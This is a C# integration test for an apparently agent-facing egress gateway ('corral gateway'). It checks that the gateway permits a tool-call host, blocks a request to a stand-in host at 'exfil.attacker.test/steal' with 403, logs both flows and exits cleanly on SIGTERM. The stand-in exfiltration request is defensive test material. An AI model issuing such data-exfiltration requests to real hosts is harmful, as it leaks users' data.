using System.Net;
using Corral.Testing;

namespace Corral.Cli.Tests;

/// <summary>
/// <c>corral gateway</c> as a real process: the Foundry pack with the agent subnet on loopback, a permit and a deny
/// through it, the flow log on disk, and a clean exit 0 after SIGTERM.
/// </summary>
public sealed class GatewayProcessTests
{
    [Fact]
    public async Task Corral_gateway_enforces_the_pack_logs_flows_and_exits_0_on_sigterm()
    {
        await using var upstream = LoopbackUpstream.Start(443, "mcp.contoso.com", "exfil.attacker.test");
        using var folder = new TempFolder("corral-cli-gw-");
        var policy = folder.File("p.yaml");
        Assert.Equal(0, CorralCommand.Run(["init", "--template", "azure-foundry", "--enforce", "-o", policy, "--agent-subnet", "127.0.0.0/8"], new StringWriter(), new StringWriter()));
        folder.Write("hosts", $"{upstream.EndPoint.Address} mcp.contoso.com exfil.attacker.test\n");
        var port = ChildProcess.FreePort();
        await using var gateway = CorralProgram.Start(["gateway", policy, "--listen", $"127.0.0.1:{port}", "--hosts", "hosts", "--flow-log", "flows.jsonl", "--public-standin", "127.0.0.0/8"],
            folder.Path);
        await gateway.WaitForPortAsync(port);

        using (var client = new HttpClient(new SocketsHttpHandler
               {
                   Proxy = new WebProxy($"http://127.0.0.1:{port}"),
                   SslOptions = { RemoteCertificateValidationCallback = (_, c, _, _) => c?.GetCertHashString() == upstream.Certificate!.GetCertHashString() },
               }) { Timeout = TimeSpan.FromSeconds(30) })
        {
            Assert.Contains("GET /ok", await client.GetStringAsync("https://mcp.contoso.com/ok"));
            var denied = await Assert.ThrowsAsync<HttpRequestException>(() => client.GetStringAsync("https://exfil.attacker.test/steal"));
            Assert.Equal(HttpStatusCode.Forbidden, denied.StatusCode);
        }

        await gateway.SignalAsync("TERM");
        var exitCode = await gateway.WaitForExitAsync(60);
        Assert.True(exitCode == 0, $"exit {exitCode}: {gateway.Output}");

        var log = File.ReadAllLines(folder.File("flows.jsonl"));
        Assert.Contains(log, l => l.Contains("\"host\":\"mcp.contoso.com\"") && l.Contains("\"action\":\"permit\"") && l.Contains("\"rule\":\"allow-tool-calls\""));
        Assert.Contains(log, l => l.Contains("\"host\":\"exfil.attacker.test\"") && l.Contains("\"action\":\"deny\"") && l.Contains("\"rule\":\"default-deny-internet\""));
        Assert.Equal(2, log.Count(l => l.Contains("\"event\":\"close\"")));
        Assert.Single(upstream.Requests);
        Assert.Contains("--public-standin", gateway.Output); // the lab-only setting announces itself
    }
}
